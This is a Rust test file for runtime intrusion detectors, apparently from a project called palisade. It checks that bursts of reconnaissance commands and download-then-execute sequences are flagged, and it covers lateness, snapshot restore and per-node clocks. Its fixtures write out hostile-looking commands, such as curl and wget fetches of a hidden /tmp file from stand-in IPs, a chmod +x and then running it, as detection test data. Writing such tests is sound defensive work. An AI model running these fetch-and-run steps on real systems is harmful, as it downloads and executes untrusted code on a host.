//! Windows: what completes a burst or a download-then-run, the look-alikes that do not, lateness, and a restart
//! from a snapshot in the middle of an open window.

use palisade_schemas::{NodeEvent, NodeEventKind};

use super::{BackdoorArtifact, ReconBurst};
use crate::detectors::node_runtime::{NodeLists, SharedNodeLists};
use crate::unit::Event;
use crate::unit::WindowedDetector;
use crate::windowed::WindowConfig;

fn exec_at(command: &str, container: Option<&str>, at_ms: i64) -> NodeEvent {
    let argv: Vec<String> = command.split(' ').map(str::to_owned).collect();
    let executable = if argv[0].starts_with('/') { argv[0].clone() } else { format!("/usr/bin/{}", argv[0]) };
    NodeEvent {
        event_id: format!("n/{at_ms}/{command}"),
        kind: NodeEventKind::Exec,
        node: "node-a".into(),
        kernel_time_ns: at_ms * 1_000_000,
        timestamp_ms: at_ms,
        pid: 200,
        tgid: 200,
        ppid: 100,
        uid: 0,
        euid: 0,
        gid: 0,
        comm: "x".into(),
        executable: Some(executable),
        argv,
        argv_truncated: false,
        cwd: Some("/root".into()),
        tty: None,
        stdio: Vec::new(),
        capabilities_effective: None,
        cgroup_id: 1,
        container_id: container.map(str::to_owned),
        pod_uid: None,
        container_name: None,
        image: None,
        pod_name: None,
        pod_namespace: None,
        in_container: container.is_some(),
        ancestry: Vec::new(),
        exit_code: None,
        clone_flags: None,
        file: None,
        net: None,
        namespace: None,
        signal: None,
        privilege: None,
    }
}

fn recon() -> ReconBurst {
    ReconBurst::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()))
}

fn feed(detector: &mut dyn WindowedDetector, events: &[NodeEvent]) -> usize {
    events.iter().map(|event| detector.observe(&Event::Node(event)).len()).sum()
}

const T: i64 = 1_764_000_000_000;

#[test]
fn four_distinct_recon_commands_in_a_minute_fire_once() {
    let mut detector = recon();
    let c = Some("c1");
    let burst = [
        exec_at("whoami", c, T),
        exec_at("id", c, T + 1_000),
        exec_at("uname -a", c, T + 2_000),
        exec_at("hostname", c, T + 3_000),
        exec_at("ps aux", c, T + 4_000),
    ];
    let findings: Vec<usize> = burst.iter().map(|e| detector.observe(&Event::Node(e)).len()).collect();
    assert_eq!(findings, [0, 0, 0, 1, 0], "fires on the fourth distinct command, once");
}

#[test]
fn repeats_slow_commands_and_other_containers_do_not_make_a_burst() {
    let mut detector = recon();
    let repeated: Vec<NodeEvent> = (0..6).map(|i| exec_at("whoami", Some("c1"), T + i * 1000)).collect();
    assert_eq!(feed(&mut detector, &repeated), 0, "one command repeated");
    let slow = [
        exec_at("id", Some("c2"), T),
        exec_at("uname", Some("c2"), T + 70_000),
        exec_at("hostname", Some("c2"), T + 140_000),
        exec_at("whoami", Some("c2"), T + 210_000),
    ];
    assert_eq!(feed(&mut detector, &slow), 0, "spread beyond the window");
    let split = [
        exec_at("id", Some("c3"), T + 300_000),
        exec_at("uname", Some("c3"), T + 301_000),
        exec_at("hostname", Some("c4"), T + 302_000),
        exec_at("whoami", Some("c4"), T + 303_000),
    ];
    assert_eq!(feed(&mut detector, &split), 0, "two containers");
    assert_eq!(feed(&mut detector, &[exec_at("ls -la", Some("c3"), T + 304_000)]), 0, "ls is not recon");
}

#[test]
fn events_later_than_the_lateness_bound_are_ignored() {
    let mut detector = recon();
    feed(&mut detector, &[exec_at("whoami", Some("other"), T + 600_000)]);
    let late = [
        exec_at("id", Some("c1"), T),
        exec_at("uname", Some("c1"), T + 1),
        exec_at("hostname", Some("c1"), T + 2),
        exec_at("whoami", Some("c1"), T + 3),
    ];
    assert_eq!(feed(&mut detector, &late), 0);
    assert_eq!(detector.late_events(), 4, "and counted");
}

#[test]
fn a_restored_detector_resumes_an_open_window_and_fires_once() {
    let mut before = recon();
    let c = Some("c1");
    feed(&mut before, &[exec_at("whoami", c, T), exec_at("id", c, T + 1_000)]);
    let saved = serde_json::to_string(&before.snapshot()).unwrap();
    drop(before);
    let mut after = recon();
    after.restore(&serde_json::from_str(&saved).unwrap()).unwrap();
    assert_eq!(after.keys(), 1);
    let rest = [exec_at("uname", c, T + 2_000), exec_at("hostname", c, T + 3_000), exec_at("ps", c, T + 4_000)];
    assert_eq!(feed(&mut after, &rest), 1);
    // Redelivered events from before the checkpoint do not fire it again.
    assert_eq!(feed(&mut after, &[exec_at("whoami", c, T + 5_000), exec_at("id", c, T + 6_000)]), 0);
    assert!(after.restore(&serde_json::json!({"keys": 3})).is_err(), "a damaged snapshot is an error");
}

#[test]
fn state_expires_and_stays_bounded() {
    let config = WindowConfig { max_keys: 3, ..WindowConfig::default() };
    let mut detector = ReconBurst::new(config, SharedNodeLists::fixed(NodeLists::shipped()));
    for i in 0..10 {
        feed(&mut detector, &[exec_at("whoami", Some(&format!("c{i}")), T + i)]);
    }
    assert_eq!(detector.keys(), 3);
    // Expiry goes by the node's own event time: an hour on node-a closes its windows, bar the new one.
    feed(&mut detector, &[exec_at("whoami", Some("late"), T + 3_600_000)]);
    detector.expire(T + 3_600_000);
    assert_eq!(detector.keys(), 1);
}

fn on_node(mut event: NodeEvent, node: &str) -> NodeEvent {
    event.node = node.to_owned();
    event
}

#[test]
fn one_node_with_a_clock_an_hour_ahead_does_not_silence_the_others() {
    let mut detector = recon();
    // node-b's clock is an hour ahead; its events come first.
    feed(&mut detector, &[on_node(exec_at("whoami", Some("b1"), T + 3_600_000), "node-b")]);
    let burst = [
        exec_at("id", Some("c1"), T),
        exec_at("uname", Some("c1"), T + 1_000),
        exec_at("hostname", Some("c1"), T + 2_000),
        exec_at("whoami", Some("c1"), T + 3_000),
    ];
    assert_eq!(feed(&mut detector, &burst), 1, "node-a's burst is judged by node-a's time");
    // Nor does the engine's watermark (node-b's time) expire node-a's open windows.
    feed(&mut detector, &[exec_at("id", Some("c2"), T + 4_000)]);
    detector.expire(T + 3_600_000);
    assert!(detector.keys() >= 2, "node-a's windows are kept");
    assert_eq!(detector.late_events(), 0);
    // A late event on node-a itself is still late, and counted.
    feed(&mut detector, &[exec_at("id", Some("c3"), T - 600_000)]);
    assert_eq!(detector.late_events(), 1);

    let mut backdoor = BackdoorArtifact::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()));
    feed(&mut backdoor, &[on_node(exec_at("whoami", Some("b1"), T + 3_600_000), "node-b")]);
    let fetched =
        [exec_at("curl -o /tmp/x http://198.51.100.7/x", Some("c1"), T), exec_at("/tmp/x", Some("c1"), T + 5_000)];
    assert_eq!(feed(&mut backdoor, &fetched), 1, "a download run on node-a, whatever node-b's clock says");
}

#[test]
fn a_downloaded_file_run_later_is_a_backdoor_artifact() {
    let mut detector = BackdoorArtifact::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()));
    let c = Some("c1");
    let events = [
        exec_at("curl -s -o /tmp/.k http://203.0.113.5/k", c, T),
        exec_at("chmod +x /tmp/.k", c, T + 1_000),
        exec_at("/tmp/.k -d", c, T + 600_000),
    ];
    let findings: Vec<usize> = events.iter().map(|e| detector.observe(&Event::Node(e)).len()).collect();
    assert_eq!(findings, [0, 0, 1]);
    // Relative targets resolve against the downloader's working directory; a shell given the script counts.
    let relative =
        [exec_at("wget -O i.sh https://example.com/i.sh", c, T + 700_000), exec_at("sh /root/i.sh", c, T + 701_000)];
    assert_eq!(feed(&mut detector, &relative), 1);
    // Combined short flags and wget's directory prefix write files too.
    let combined =
        [exec_at("curl -fsSLo /tmp/m http://203.0.113.5/m", c, T + 800_000), exec_at("/tmp/m", c, T + 801_000)];
    assert_eq!(feed(&mut detector, &combined), 1);
    let prefixed = [
        exec_at("wget -q -P /var/tmp http://203.0.113.5/kit", c, T + 900_000),
        exec_at("/var/tmp/kit", c, T + 901_000),
    ];
    assert_eq!(feed(&mut detector, &prefixed), 1);
}

#[test]
fn downloads_never_run_run_too_late_or_elsewhere_are_not() {
    let mut detector = BackdoorArtifact::new(WindowConfig::default(), SharedNodeLists::fixed(NodeLists::shipped()));
    let never_run = [
        exec_at("curl -o /tmp/report.pdf https://example.com/r.pdf", Some("c1"), T),
        exec_at("ls /tmp", Some("c1"), T + 1),
    ];
    assert_eq!(feed(&mut detector, &never_run), 0);
    let too_late = [
        exec_at("curl -o /tmp/x https://example.com/x", Some("c2"), T + 10),
        exec_at("/tmp/x", Some("c2"), T + 3_700_000),
    ];
    assert_eq!(feed(&mut detector, &too_late), 0);
    let elsewhere = [
        exec_at("curl -o /tmp/y https://example.com/y", Some("c3"), T + 3_700_001),
        exec_at("/tmp/y", Some("c4"), T + 3_700_002),
    ];
    assert_eq!(feed(&mut detector, &elsewhere), 0, "another container's /tmp/y");
}
